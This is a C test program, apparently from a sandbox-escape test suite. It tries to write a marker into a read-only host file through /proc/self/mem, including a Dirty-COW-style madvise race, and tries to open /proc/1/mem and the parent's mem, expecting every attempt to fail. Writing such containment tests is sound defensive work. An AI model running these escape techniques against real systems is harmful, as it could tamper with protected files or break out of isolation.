// tries: writes through /proc/self/mem (which ignores page protections, FOLL_FORCE) into a read-only shared mapping of a host file the box sees read-only (argv[1]), a Dirty-COW-style write into a private mapping of it, and /proc/1/mem and /proc/<ppid>/mem
// allowed: 3
// why: the kernel refuses a forced write into a shared read-only file mapping (EIO/EFAULT) and turns a private one into a private copy, so the file is untouched; /proc/1 is invisible (hidepid) and the parent is that init. The program exits 0; the suite checks the file is unchanged
// layer: mount, namespace
// args: {ro_target}
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static void poke(const char *what, int memfd, void *addr) {
    const char text[] = "JBXPWN";
    ssize_t n = pwrite(memfd, text, sizeof text - 1, (off_t)(unsigned long)addr);
    printf("%s: %s\n", what, n < 0 ? strerror(errno) : "written");
}

int main(int argc, char **argv) {
    const char *t = argc > 1 ? argv[1] : "/usr/local/share/jbx-ro-target";
    int fd = open(t, O_RDONLY);
    if (fd < 0) { perror("open target"); return 0; }
    int mem = open("/proc/self/mem", O_RDWR);
    if (mem < 0) printf("/proc/self/mem for writing: %s\n", strerror(errno));
    void *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
    void *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (mem >= 0 && shared != MAP_FAILED) poke("shared read-only mapping", mem, shared);
    if (mem >= 0 && private != MAP_FAILED) {
        poke("private read-only mapping", mem, private);
        for (int i = 0; i < 2000; i++) {
            madvise(private, 4096, MADV_DONTNEED);
            poke(i == 1999 ? "private mapping after DONTNEED race" : "", mem, private);
        }
    }
    char buf[16] = {0};
    if (pread(fd, buf, 6, 0) == 6 && memcmp(buf, "JBXPWN", 6) == 0) printf("ESCAPED the host file changed\n");
    char path[64];
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/mem", i == 0 ? 1 : getppid());
        int other = open(path, O_RDWR);
        printf("%s: %s\n", path, other < 0 ? strerror(errno) : "ESCAPED opened");
    }
    return 0;
}
